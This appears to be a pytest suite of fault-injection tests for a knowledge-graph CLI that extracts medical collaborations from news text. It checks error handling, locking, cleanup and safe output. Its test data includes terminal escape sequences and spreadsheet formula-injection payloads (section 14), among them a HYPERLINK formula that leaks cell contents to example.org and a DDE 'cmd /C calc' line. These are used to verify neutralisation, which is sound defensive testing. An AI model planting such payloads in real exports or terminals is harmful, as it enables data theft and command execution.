"""Fault injection: bad input, faults, concurrency and hostile article text (issue 13, cases 1 to 17).

Each case ends in a correct result or one line `Error: …` with its exit code (1 error, 2 usage), never a
traceback, a lost graph or cache, a process left running or an unsafe byte written. Tests that start `kg` in
subprocesses, or take seconds, are marked slow; they run by default.
"""
from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

import medcollab_kg
from medcollab_kg import lock as lock_module
from medcollab_kg.cli.app import app
from medcollab_kg.graph import load_graph
from medcollab_kg.ingest import read_articles, read_file
from medcollab_kg.models import Article, Skipped
from medcollab_kg.store import store_path

ROOT = Path(__file__).resolve().parent.parent
RAW = ROOT / "data" / "raw"
PACKAGE = Path(medcollab_kg.__file__).resolve().parent
runner = CliRunner()

NEWS = ("MACAU, March 5, 2024 - The University of Macau (UM) signed a memorandum of understanding with "
        "Peking Union Medical College Hospital (PUMCH) on Tuesday. UM Rector Prof. Yonghua Song and PUMCH "
        "President Prof. Zhang Shuyang signed the agreement.")
# an OSC that retitles the window, a screen clear, a bell, a C1 CSI
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m"
UNSAFE_BYTES = ("\x1b", "\x07", "\x9b", "\x90", "\x9d")


def build(*args: str | Path, graph: Path) -> object:
    return runner.invoke(app, ["build", *map(str, args), "--graph", str(graph), "--model", "blank", "--workers", "1"])


def one_error_line(result, code: int = 1) -> str:
    """The run ended with `code` and exactly one line `Error: …` on stderr, no traceback."""
    assert result.exit_code == code, (result.exit_code, result.output, result.exception)
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    return lines[0]


def news_folder(tmp_path: Path, name: str = "news") -> Path:
    folder = tmp_path / name
    folder.mkdir()
    (folder / "a.txt").write_text(NEWS, encoding="utf-8")
    return folder


def kg_process(*args: str) -> list[str]:
    return [sys.executable, "-m", "medcollab_kg", *args]


def subprocess_env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(PACKAGE.parent)}


@pytest.fixture(scope="module")
def sample_graph(tmp_path_factory) -> Path:
    graph = tmp_path_factory.mktemp("faults") / "graph.json"
    result = build(RAW, graph=graph)
    assert result.exit_code == 0, result.output
    return graph


# ---------------------------------------------------------------- 1. an HTML reader that does not import


def test_1_html_reader_that_does_not_import_skips_pages_and_builds_the_rest(tmp_path, monkeypatch):
    news = news_folder(tmp_path)
    (news / "page.html").write_text(f"<html><body><p>{NEWS} Another sentence.</p></body></html>", encoding="utf-8")
    monkeypatch.setitem(sys.modules, "trafilatura", None)  # `import trafilatura` raises ImportError
    result = build(news, graph=tmp_path / "g.json")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    assert "skipped " in result.stderr and "page.html: cannot read HTML" in result.stderr
    assert load_graph(tmp_path / "g.json").graph["articles"] == 1


def test_1_lxml_html_clean_is_declared_so_pip_without_extras_installs_it():
    text = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    try:
        import tomllib
    except ImportError:  # Python 3.10
        assert '"lxml_html_clean' in text
        return
    dependencies = tomllib.loads(text)["project"]["dependencies"]
    assert any(d.replace("-", "_").startswith("lxml_html_clean") for d in dependencies)


# ---------------------------------------------------------------- 2. a file name that is not UTF-8


@pytest.mark.parametrize("no_cache", [False, True])
def test_2_file_name_that_is_not_utf8_is_read_and_named_with_escapes(tmp_path, no_cache):
    news = news_folder(tmp_path)
    fd = os.open(os.path.join(os.fsencode(news), b"caf\xe9.txt"), os.O_WRONLY | os.O_CREAT)
    os.write(fd, NEWS.replace("Macau", "Macao").encode())
    os.close(fd)
    graph = tmp_path / "g.json"
    result = runner.invoke(app, ["build", str(news), "--graph", str(graph), "--model", "blank", "--workers", "1",
                                 *(["--no-cache"] if no_cache else [])])
    assert result.exit_code == 0, (result.output, result.exception)
    paths = {d.get("path") for _, d in load_graph(graph).nodes(data=True) if d.get("type") == "Document"}
    assert str(news / "caf\\xe9.txt") in paths
    again = build(news, graph=graph)  # and the cache holds it
    assert again.exit_code == 0 and "(0 extracted, 2 from the cache)" in again.stderr


# ---------------------------------------------------------------- 3. a damaged fact cache


def damage(cache: Path, how: str) -> None:
    if how == "garbage file":
        cache.write_bytes(os.urandom(4096 * 3))
    elif how == "garbage pages":
        data = bytearray(cache.read_bytes())
        assert len(data) > 4096
        data[4096:] = os.urandom(len(data) - 4096)
        cache.write_bytes(bytes(data))
    elif how == "rows of bad JSON":
        with sqlite3.connect(cache) as db:
            assert db.execute("UPDATE facts SET facts = '{not json'").rowcount > 0
        db.close()
    elif how == "rows of another shape":
        with sqlite3.connect(cache) as db:
            db.execute("""UPDATE facts SET facts = '{"document": 3}'""")
        db.close()
    elif how == "a table of another shape":
        cache.unlink()
        with sqlite3.connect(cache) as db:
            db.execute("CREATE TABLE facts (id INTEGER, blob BLOB)")
            db.execute("PRAGMA user_version=1")
        db.close()
    elif how == "a folder":
        cache.unlink()
        (cache / "inside").mkdir(parents=True)


@pytest.fixture(scope="module")
def built_once(tmp_path_factory) -> Path:
    """A folder holding g.json and its fact cache, built once from the samples for every case of test 3."""
    folder = tmp_path_factory.mktemp("built_once")
    assert build(RAW, graph=folder / "g.json").exit_code == 0
    return folder


@pytest.mark.parametrize("how", ["garbage file", "garbage pages", "rows of bad JSON", "rows of another shape",
                                 "a table of another shape", "a folder"])
@pytest.mark.parametrize("no_cache", [False, True])
def test_3_damaged_cache_is_set_aside_with_a_warning_and_the_build_goes_on(tmp_path, how, no_cache, built_once):
    graph = tmp_path / "g.json"
    for path in built_once.iterdir():  # the graph and its cache, as the first build of the samples leaves them
        shutil.copy2(path, tmp_path / path.name)
    expected = graph.read_bytes()
    cache = store_path(graph)
    damage(cache, how)
    result = runner.invoke(app, ["build", str(RAW), "--graph", str(graph), "--model", "blank", "--workers", "1",
                                 *(["--no-cache"] if no_cache else [])])
    assert result.exit_code == 0, (result.output, result.exception)
    assert "Traceback" not in result.output
    assert "(5 extracted, 0 from the cache)" in result.stderr
    if how.startswith("rows"):  # a row that does not read back is a miss, extracted again and overwritten
        assert "damaged fact cache" not in result.stderr
    else:
        assert "damaged fact cache" in result.stderr
        assert cache.with_name(cache.name + ".damaged").exists()  # set aside, not deleted
    assert graph.read_bytes() == expected
    again = build(RAW, graph=graph)
    assert again.exit_code == 0 and "(0 extracted, 5 from the cache)" in again.stderr


# ---------------------------------------------------------------- 4. two builds of one graph


@pytest.mark.slow  # holds the lock for a second on purpose
def test_4_second_build_waits_for_the_first(tmp_path):
    graph = tmp_path / "g.json"
    held, release = threading.Event(), threading.Event()

    def first_build() -> None:
        with lock_module.build_lock(graph):
            held.set()
            release.wait(10)

    holder = threading.Thread(target=first_build)
    holder.start()
    held.wait(10)
    threading.Timer(1.0, release.set).start()
    started = time.monotonic()
    result = build(RAW, graph=graph)
    holder.join()
    assert result.exit_code == 0, result.output
    assert time.monotonic() - started >= 0.9
    assert "Waiting for another kg build" in result.stderr


def test_4_second_build_gives_up_after_the_timeout_with_one_line(tmp_path, monkeypatch):
    graph = tmp_path / "g.json"
    assert build(RAW, graph=graph).exit_code == 0
    before = graph.read_bytes()
    monkeypatch.setattr(lock_module, "LOCK_TIMEOUT", 0.3)
    with lock_module.build_lock(graph):
        result = build(RAW, news_folder(tmp_path), graph=graph)
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.stderr.strip().splitlines()[-1].startswith("Error: Another kg build is writing")
    assert graph.read_bytes() == before


@pytest.mark.slow
def test_4_two_kg_build_processes_on_one_graph_both_succeed(tmp_path):
    graph = tmp_path / "g.json"
    command = kg_process("build", str(RAW), "--graph", str(graph), "--model", "blank", "--workers", "1")
    first = subprocess.Popen(command, env=subprocess_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    second = subprocess.Popen(command, env=subprocess_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    for process in (first, second):
        _, stderr = process.communicate(timeout=120)
        assert process.returncode == 0, stderr.decode()
        assert b"Traceback" not in stderr and b"locked" not in stderr
    assert load_graph(graph).graph["articles"] == 5


# ---------------------------------------------------------------- 5. a folder 1,000 levels deep


@pytest.mark.slow
def test_5_folder_a_thousand_levels_deep_is_read(tmp_path):
    deep = tmp_path / "news"
    deep.mkdir()
    bottom = str(deep)
    for _ in range(1000):  # os.makedirs would itself recurse too deep
        bottom = os.path.join(bottom, "d")
        os.mkdir(bottom)
    Path(bottom, "a.txt").write_text(NEWS, encoding="utf-8")
    (deep / "b.txt").write_text(NEWS.replace("Macau", "Macao"), encoding="utf-8")
    try:
        items = list(read_articles([deep]))
        assert [i.name.count("d/") for i in items] == [0, 1000]  # b.txt sorts before d/
        result = build(deep, graph=tmp_path / "g.json")
        assert result.exit_code == 0, (result.output, result.exception)
        assert load_graph(tmp_path / "g.json").graph["articles"] == 2
    finally:  # shutil.rmtree (and so pytest's own clean-up) recurses, and would fail on it
        Path(bottom, "a.txt").unlink()
        while bottom != str(deep):
            os.rmdir(bottom)
            bottom = os.path.dirname(bottom)


def test_5_walk_keeps_sorted_depth_first_order(tmp_path):
    from medcollab_kg.ingest import find_files

    for rel in ("b/z.txt", "a/y/x.txt", "a/b.txt", "c.txt", "a.txt", "a/y/a.txt"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x")
    names = [p.relative_to(tmp_path).as_posix() for p in find_files(tmp_path)]
    assert names == ["a/b.txt", "a/y/a.txt", "a/y/x.txt", "a.txt", "b/z.txt", "c.txt"]


# ---------------------------------------------------------------- 6. --max-bytes and --aliases


def test_6_huge_max_bytes_reads_everything(tmp_path):
    news = news_folder(tmp_path)
    (news / "d.jsonl").write_text(json.dumps({"text": NEWS.replace("Macau", "Macao")}) + "\n", encoding="utf-8")
    result = runner.invoke(app, ["build", str(news), "--graph", str(tmp_path / "g.json"), "--model", "blank",
                                 "--max-bytes", "99999999999999999999"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert load_graph(tmp_path / "g.json").graph["articles"] == 2


@pytest.mark.parametrize("what", ["binary", "folder", "latin-1"])
def test_6_aliases_that_is_not_a_csv_is_one_line(tmp_path, what):
    aliases = tmp_path / "aliases.csv"
    if what == "folder":
        aliases.mkdir()
    elif what == "binary":
        aliases.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00\x01")
    else:
        aliases.write_bytes("kind,name,alias,action\norg,Universit\u00e9 de Gen\u00e8ve,UNIGE,same\n".encode("latin-1"))
    result = runner.invoke(app, ["build", str(RAW), "--graph", str(tmp_path / "g.json"), "--model", "blank",
                                 "--aliases", str(aliases)])
    line = one_error_line(result)
    assert "--aliases" in line and "Fix:" in line or "Cannot read" in line
    assert not (tmp_path / "g.json").exists()


def test_6_aliases_saved_with_a_byte_order_mark_is_read(tmp_path):
    aliases = tmp_path / "aliases.csv"
    aliases.write_bytes("kind,name,alias,action\r\norg,University of Macau,UMAC,same\r\n".encode("utf-8-sig"))
    result = runner.invoke(app, ["build", str(RAW), "--graph", str(tmp_path / "g.json"), "--model", "blank",
                                 "--aliases", str(aliases)])
    assert result.exit_code == 0, result.output
    from medcollab_kg.resolution import read_overrides

    assert [(o.kind, o.name) for o in read_overrides(aliases)] == [("org", "University of Macau")]


# ---------------------------------------------------------------- 7. a read-only or full disk


def test_7_read_only_graph_folder_is_refused_before_any_work(tmp_path, monkeypatch):
    folder = tmp_path / "graphs"
    folder.mkdir()
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, **kw: False if Path(p) == folder and mode & os.W_OK
                        else real_access(p, mode, **kw))
    line = one_error_line(build(RAW, graph=folder / "g.json"))
    assert line.startswith(f"Error: Cannot write '{folder / 'g.json'}'") and "read-only" in line
    assert list(folder.iterdir()) == []


def test_7_full_disk_while_writing_the_graph_keeps_the_old_one(tmp_path, monkeypatch):
    graph = tmp_path / "g.json"
    assert build(RAW, graph=graph).exit_code == 0
    before = graph.read_bytes()

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("medcollab_kg.atomic.os.fsync", full)
    line = one_error_line(build(RAW, news_folder(tmp_path), graph=graph))
    assert line.startswith(f"Error: Cannot write '{graph}': No space left on device")
    assert graph.read_bytes() == before
    assert not list(tmp_path.glob(".g.json.*.tmp"))


class FullDisk:
    """A SQLite connection whose writes fail as on a full disk."""

    def __init__(self, db: sqlite3.Connection):
        self.db = db

    def execute(self, sql: str, *args):
        if sql.startswith("INSERT OR REPLACE"):
            raise sqlite3.OperationalError("database or disk is full")
        return self.db.execute(sql, *args)

    def __getattr__(self, name: str):
        return getattr(self.db, name)


def test_7_full_disk_while_writing_the_cache_is_one_line_and_keeps_graph_and_cache(tmp_path, monkeypatch):
    graph = tmp_path / "g.json"
    assert build(RAW, graph=graph).exit_code == 0
    before, cache = graph.read_bytes(), store_path(graph)
    real_connect = sqlite3.connect
    monkeypatch.setattr("medcollab_kg.store.sqlite3.connect", lambda *a, **k: FullDisk(real_connect(*a, **k)))
    line = one_error_line(build(RAW, news_folder(tmp_path), graph=graph))
    assert line.startswith(f"Error: Cannot write the fact cache '{cache}': database or disk is full")
    assert graph.read_bytes() == before
    monkeypatch.undo()
    again = build(RAW, graph=graph)  # the cache was neither lost nor set aside
    assert again.exit_code == 0 and "(0 extracted, 5 from the cache)" in again.stderr


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json", "html", "csv", "neo4j"])
def test_7_export_to_a_full_or_read_only_disk_is_one_line_and_keeps_the_old_export(tmp_path, monkeypatch, fmt,
                                                                                   sample_graph):
    output = tmp_path / f"out.{fmt}"
    assert runner.invoke(app, ["export", "-f", fmt, "-o", str(output), "--graph", str(sample_graph)]).exit_code == 0
    before = sorted((p.name, p.read_bytes()) for p in output.rglob("*")) if output.is_dir() else output.read_bytes()

    def read_only(*_args, **_kwargs):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr("medcollab_kg.atomic.os.fsync", read_only)
    line = one_error_line(runner.invoke(app, ["export", "-f", fmt, "-o", str(output), "--graph", str(sample_graph)]))
    assert line.startswith(f"Error: Cannot write '{output}': Read-only file system")
    after = sorted((p.name, p.read_bytes()) for p in output.rglob("*")) if output.is_dir() else output.read_bytes()
    assert after == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [output.name]  # no temporary file or folder left


def test_7_an_io_error_no_layer_foresaw_is_still_one_line(monkeypatch, sample_graph):
    def failing(*_args, **_kwargs):
        raise OSError(errno.EIO, os.strerror(errno.EIO), "/mnt/gone/graph.json")

    monkeypatch.setattr("medcollab_kg.query.stats", failing)
    line = one_error_line(runner.invoke(app, ["stats", "--graph", str(sample_graph)]))
    assert line == "Error: Input/output error '/mnt/gone/graph.json'."


# ---------------------------------------------------------------- 8. workers die with their build


def children(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.add(int(entry.name))
    return found


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def started_build_with_workers(tmp_path: Path) -> tuple[subprocess.Popen, set[int], Path]:
    news = tmp_path / "news"
    news.mkdir()
    for n in range(60):
        for article in sorted(RAW.glob("*.txt")):
            (news / f"{n:03d}_{article.name}").write_text(f"{article.read_text()}\nCopy {n}.\n")
    graph = tmp_path / "g.json"
    process = subprocess.Popen(kg_process("build", str(news), "--graph", str(graph), "--workers", "2"),
                               env=subprocess_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    workers: set[int] = set()
    while len(workers) < 2 and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.05)
        workers = children(process.pid)
    assert len(workers) >= 2, "the build never started its workers"
    time.sleep(1.5)  # loading the model, extracting
    return process, workers, graph


def gone(workers: set[int], within: float = 15.0) -> bool:
    deadline = time.monotonic() + within
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    return not any(alive(w) for w in workers)


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_8_sigkill_of_a_build_leaves_no_worker_running(tmp_path):
    process, workers, graph = started_build_with_workers(tmp_path)
    process.kill()
    process.communicate(timeout=30)
    assert gone(workers, within=5), f"workers {workers} outlived their build"
    assert not graph.exists()


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_8_sigterm_ends_a_build_as_ctrl_c_does(tmp_path):
    process, workers, graph = started_build_with_workers(tmp_path)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr.decode()
    assert b"Traceback" not in stderr
    assert stderr.decode().strip().splitlines()[-1].startswith("Terminated: the facts of every article")
    assert gone(workers), f"workers {workers} outlived their build"
    assert not graph.exists()
    with sqlite3.connect(store_path(graph)) as db:  # the cache is a sound database, ready to resume
        db.execute("SELECT count(*) FROM facts").fetchone()
    db.close()


# ---------------------------------------------------------------- 9. a folder that cannot be read


def test_9_unreadable_sub_folder_is_listed_among_the_skipped(tmp_path, monkeypatch):
    news = news_folder(tmp_path)
    secret = news / "secret"
    secret.mkdir()
    (secret / "b.txt").write_text(NEWS.replace("Macau", "Macao"), encoding="utf-8")
    real_scandir = os.scandir

    def scandir(path):
        if Path(path) == secret:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return real_scandir(path)

    monkeypatch.setattr("medcollab_kg.ingest.os.scandir", scandir)
    result = build(news, graph=tmp_path / "g.json")
    assert result.exit_code == 0, result.output
    assert f"skipped {secret}: unreadable folder: Permission denied" in result.stderr
    skipped = load_graph(tmp_path / "g.json").graph["skipped"]
    assert {"path": str(secret), "reason": "unreadable folder: Permission denied"} in skipped
    alone = runner.invoke(app, ["build", str(secret), "--graph", str(tmp_path / "h.json"), "--model", "blank"])
    line = one_error_line(alone)  # the folder named on the command line: nothing to build, and why
    assert f"1 skipped, e.g. '{secret}': unreadable folder: Permission denied" in line


# ---------------------------------------------------------------- 10. outputs that would replace other files


@pytest.mark.parametrize("fmt", ["json", "graphml", "html"])
def test_10_export_onto_the_graph_itself_is_refused(tmp_path, fmt, sample_graph):
    graph = tmp_path / "g.json"
    shutil.copy(sample_graph, graph)
    before = graph.read_bytes()
    line = one_error_line(runner.invoke(app, ["export", "-f", fmt, "-o", str(graph), "--graph", str(graph)]), 2)
    assert "is the graph's own file" in line
    link = tmp_path / "link.json"
    link.symlink_to(graph)
    one_error_line(runner.invoke(app, ["export", "-f", fmt, "-o", str(link), "--graph", str(graph)]), 2)
    assert graph.read_bytes() == before


def test_10_build_does_not_replace_a_file_that_is_not_a_graph(tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n")
    line = one_error_line(build(RAW, graph=notes))
    assert "'" + str(notes) + "' is not a medcollab-kg graph" in line
    assert notes.read_text() == "my notes\n"
    empty = tmp_path / "empty.json"
    empty.write_text("")
    assert build(RAW, graph=empty).exit_code == 0  # nothing to lose
    truncated = tmp_path / "truncated.json"
    truncated.write_bytes(empty.read_bytes()[:200])  # a damaged graph: a rebuild repairs it
    assert build(RAW, graph=truncated).exit_code == 0
    assert truncated.read_bytes() == empty.read_bytes()
    other = tmp_path / "other.json"
    other.write_text('{"settings": {"theme": "dark"}}')
    one_error_line(build(RAW, graph=other))
    assert other.read_text() == '{"settings": {"theme": "dark"}}'


# ---------------------------------------------------------------- 11. valid JSON, invalid graph


BROKEN = {
    "type is a list": ("node", {"type": ["Organization"]}, "has type ['Organization'], not text"),
    "name is null": ("node", {"name": None}, "has name None, not text"),
    "aliases is text": ("node", {"aliases": "PUMCH"}, "has aliases 'PUMCH', not a list of text"),
    "evidence is a string": ("edge", {"evidence": "a sentence"}, "has evidence 'a sentence'"),
    "edge with no relation": ("edge", {"relation": None}, "has relation None, not text"),
    "support is many": ("edge", {"support": "many"}, "has support 'many', not a count"),
}
COMMANDS = [["query", "who signed with PUMCH"], ["show", "PUMCH"], ["path", "PUMCH", "UM"], ["stats"],
            ["people"], ["agreements", "--format", "csv"],
            *[["export", "-f", fmt, "-o", f"out.{fmt}"] for fmt in ("graphml", "gexf", "json", "csv", "neo4j",
                                                                   "html")]]


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_11_graph_that_breaks_the_schema_is_named_on_load_by_every_command(tmp_path, monkeypatch, case,
                                                                         sample_graph):
    monkeypatch.chdir(tmp_path)
    where, change, message = BROKEN[case]
    data = json.loads(sample_graph.read_text())
    if where == "node":
        victim = next(n for n in data["nodes"] if n["id"].startswith("org:"))
        victim.update(change)
        if "name" in change and change["name"] is None:
            victim["name"] = None
    else:
        victim = next(e for e in data["edges"] if e.get("relation") == "signed")
        victim.update(change)
    graph = tmp_path / "broken.json"
    graph.write_text(json.dumps(data))
    for command in COMMANDS:
        line = one_error_line(runner.invoke(app, [*command, "--graph", str(graph)]))
        assert line.startswith(f"Error: '{graph}' is corrupt: "), (command, line)
        assert message in line and "Rebuild it: kg build" in line
        if where == "node":
            assert f"node '{victim['id']}'" in line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.json"]


# ---------------------------------------------------------------- 12. dates that do not exist


@pytest.mark.parametrize("option", [["--since", "2020-13"], ["--until", "2021-02-30"], ["--since", "2024-00"],
                                    ["--until", "0000"]])
@pytest.mark.parametrize("command", ["agreements", "events"])
def test_12_since_and_until_must_be_real_dates(option, command, sample_graph):
    line = one_error_line(runner.invoke(app, [command, *option, "--graph", str(sample_graph)]), 2)
    assert f"{option[0]} '{option[1]}' is not a date" in line and "Fix: use YYYY, YYYY-MM or YYYY-MM-DD" in line


def test_12_real_dates_still_work(sample_graph):
    for option in (["--since", "2024-02-29"], ["--until", "2024-12"], ["--since", "2020"]):
        assert runner.invoke(app, ["agreements", *option, "--graph", str(sample_graph)]).exit_code == 0


# ---------------------------------------------------------------- 13. terminal output


@pytest.fixture(scope="module")
def hostile_graph(sample_graph, tmp_path_factory) -> Path:
    """The sample graph with escape sequences and C1 controls in every name and sentence, as an old graph or a
    hand-edited one may hold (ingest now removes them from articles)."""
    data = json.loads(sample_graph.read_text())
    for node in data["nodes"]:
        node["name"] = node["name"] + HOSTILE
    for edge in data["edges"]:
        for evidence in edge.get("evidence", []):
            evidence["sentence"] = HOSTILE + evidence["sentence"]
    graph = tmp_path_factory.mktemp("hostile") / "graph.json"
    graph.write_text(json.dumps(data))
    return graph


def org_ids(graph: Path) -> list[str]:
    return sorted(n for n, d in load_graph(graph).nodes(data=True) if d["type"] == "Organization")


@pytest.mark.parametrize("fmt", [["--format", "csv"], ["--json"], ["--format", "table"]])
def test_13_no_command_writes_escape_sequences_or_c1_controls(hostile_graph, fmt):
    orgs = org_ids(hostile_graph)
    commands = [["query", "who signed with PUMCH"], ["people"], ["orgs"], ["agreements"], ["events"], ["stats"],
                ["path", orgs[0], orgs[-1]]]
    if "--json" in fmt:
        commands.append(["show", "PUMCH"])
    for command in commands:
        result = runner.invoke(app, [*command, *fmt, "--graph", str(hostile_graph)])
        assert result.exit_code in (0, 1), (command, result.output)
        for byte in UNSAFE_BYTES:
            assert byte not in result.stdout and byte not in result.stderr, (command, fmt, byte)
    shown = runner.invoke(app, ["show", "PUMCH", "--evidence", "--graph", str(hostile_graph)])
    assert not any(b in shown.output for b in UNSAFE_BYTES)


def test_13_csv_cleaning_keeps_text_and_spaces_of_every_script():
    from medcollab_kg.text import terminal_safe

    text = "東京大学\u3000医学部, Hôpital\u00a0Cantonal; line\nbreak\tand tab"
    assert terminal_safe(text) == text
    assert terminal_safe(HOSTILE) == "\ufffd]0;owned\ufffd\ufffd[2J\ufffd31m"


def test_13_json_keeps_the_text_as_escapes(hostile_graph):
    result = runner.invoke(app, ["people", "--json", "--graph", str(hostile_graph)])
    assert "\\u009b" in result.stdout and "\\u001b" in result.stdout
    assert json.loads(result.stdout)[0]["name"].endswith(HOSTILE)  # the data itself is unchanged


def test_13_a_file_name_with_a_newline_cannot_forge_a_summary_line(tmp_path):
    news = news_folder(tmp_path)
    (news / "x\n  skipped a.txt: forged.txt").write_bytes(b"")
    (news / f"t{HOSTILE}.txt").write_bytes(b"")
    result = build(news, graph=tmp_path / "g.json")
    assert result.exit_code == 0, result.output
    skipped = [line for line in result.stderr.splitlines() if line.startswith("  skipped ")]
    assert len(skipped) == 2 and all(line.endswith(": empty") for line in skipped)
    assert not any(b in result.stderr for b in UNSAFE_BYTES)
    as_json = runner.invoke(app, ["build", str(news), "--graph", str(tmp_path / "g.json"), "--model", "blank",
                                  "--json"])
    assert not any(b in as_json.stdout for b in UNSAFE_BYTES)


def test_13_escape_sequences_in_articles_never_reach_the_graph(tmp_path):
    news = tmp_path / "news"
    news.mkdir()
    (news / "a.txt").write_text(NEWS.replace("signed", f"signed{HOSTILE}", 1), encoding="utf-8")
    assert build(news, graph=tmp_path / "g.json").exit_code == 0
    text = (tmp_path / "g.json").read_text(encoding="utf-8")
    assert not any(b in text for b in UNSAFE_BYTES) and "\\u001b" not in text


# ---------------------------------------------------------------- 14. CSV injection


FORMULAS = ['=HYPERLINK("http://example.org/?leak="&A1,"Click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1", "'=already quoted", "＝1"]


def formula_graph(sample_graph: Path, folder: Path) -> Path:
    data = json.loads(sample_graph.read_text())
    orgs = [n for n in data["nodes"] if n["type"] == "Organization"]
    for node, formula in zip(orgs, FORMULAS, strict=False):
        node["name"] = formula
        node["aliases"] = [formula]
    sentences = [e for edge in data["edges"] for e in edge.get("evidence", [])]
    for evidence, formula in zip(sentences, FORMULAS, strict=False):
        evidence["sentence"] = formula
    graph = folder / "graph.json"
    graph.write_text(json.dumps(data))
    return graph


def test_14_csv_export_writes_formulas_as_text_and_reads_them_back(tmp_path, sample_graph):
    from medcollab_kg.export.csv import read_csv

    graph = formula_graph(sample_graph, tmp_path)
    out = tmp_path / "csv"
    result = runner.invoke(app, ["export", "-f", "csv", "-o", str(out), "--graph", str(graph)])
    assert result.exit_code == 0, result.output  # the export's read-back check passed
    import csv

    cells = [c for name in ("nodes.csv", "edges.csv", "evidence.csv")
             for row in csv.reader(open(out / name, encoding="utf-8", newline="")) for c in row]
    assert not any(c[:1] in "=+-@\t\r\n＝＋－＠" and c for c in cells)
    for formula in FORMULAS:
        assert "'" + formula in cells
    names = {d["name"] for _, d in read_csv(out).nodes(data=True)}
    assert set(FORMULAS) <= names


def test_14_csv_on_stdout_writes_formulas_as_text(tmp_path, sample_graph):
    import csv
    import io

    graph = formula_graph(sample_graph, tmp_path)
    result = runner.invoke(app, ["orgs", "--format", "csv", "--graph", str(graph)])
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert not any(c[:1] in "=+-@＝" and c for row in rows[1:] for c in row)
    assert any(c == "'" + FORMULAS[0] for row in rows for c in row)


# ---------------------------------------------------------------- 15. a question with 20,000 "and"s


def test_15_a_huge_question_is_answered_or_refused_at_once(sample_graph):
    started = time.monotonic()
    question = "how are " + " and ".join(["PUMCH"] * 20_000) + " connected"
    line = one_error_line(runner.invoke(app, ["query", question, "--graph", str(sample_graph)]), 2)
    assert "at most 1000" in line
    long = "how are " + " and ".join(["University"] * 80) + " connected"  # under the cap, many splits
    result = runner.invoke(app, ["query", long, "--graph", str(sample_graph)])
    assert result.exit_code in (1, 2) and "Traceback" not in result.output
    assert time.monotonic() - started < 5


def test_15_names_with_and_still_split(sample_graph):
    result = runner.invoke(app, ["query", "how are PUMCH and UM connected", "--graph", str(sample_graph), "--json"])
    assert result.exit_code == 0, result.output


# ---------------------------------------------------------------- 16. silent wrong text


def test_16_a_few_escape_sequences_do_not_make_an_article_binary(tmp_path):
    text = f"\x1b[1m{NEWS[:80]}\x1b[0m {NEWS[80:200]} \x1b[31m."
    path = tmp_path / "a.txt"
    path.write_text(text, encoding="utf-8")
    [item] = read_file(path)
    assert isinstance(item, Article), item
    assert "\x1b" not in item.text and "University of Macau" in item.text
    binary = tmp_path / "b.txt"
    binary.write_bytes(bytes(range(1, 32)) * 40)
    assert isinstance(next(read_file(binary)), Skipped)


@pytest.mark.parametrize("declared", ["utf-16", "UTF-16LE", "utf-32"])
@pytest.mark.parametrize("body", ["utf-8", "utf-8 with one bad byte"])
def test_16_declared_utf16_over_a_utf8_page_is_read_as_utf8(tmp_path, declared, body):
    page = (f'<html><head><meta charset="{declared}"><title>Université de Genève</title></head><body><article>'
            f"<p>The Université de Genève signed an agreement with the Hôpital Cantonal on March 3, 2024. "
            f"{NEWS}</p></article></body></html>").encode()
    if body != "utf-8":
        page = page.replace(b"Cantonal", b"Cantonal \xff", 1)
    path = tmp_path / "p.html"
    path.write_bytes(page)
    [item] = read_file(path)
    assert isinstance(item, Article), item
    assert "Université de Genève" in item.text and "Hôpital" in item.text


def test_16_format_characters_never_make_a_name(tmp_path):
    news = tmp_path / "news"
    news.mkdir()
    (news / "a.txt").write_text(NEWS.replace("Zhang Shuyang", "Zhang\u200b Shuyang").replace(
        "Peking Union", "Peking\u00ad Union").replace("Yonghua", "Yong\u2060hua\u202e"), encoding="utf-8")
    (news / "b.txt").write_text(NEWS.replace("Tuesday", "Wednesday"), encoding="utf-8")
    assert build(news, graph=tmp_path / "g.json").exit_code == 0
    text = (tmp_path / "g.json").read_text(encoding="utf-8")
    for char in ("\u200b", "\u00ad", "\u2060", "\u202e"):
        assert char not in text and json.dumps(char)[1:-1] not in text
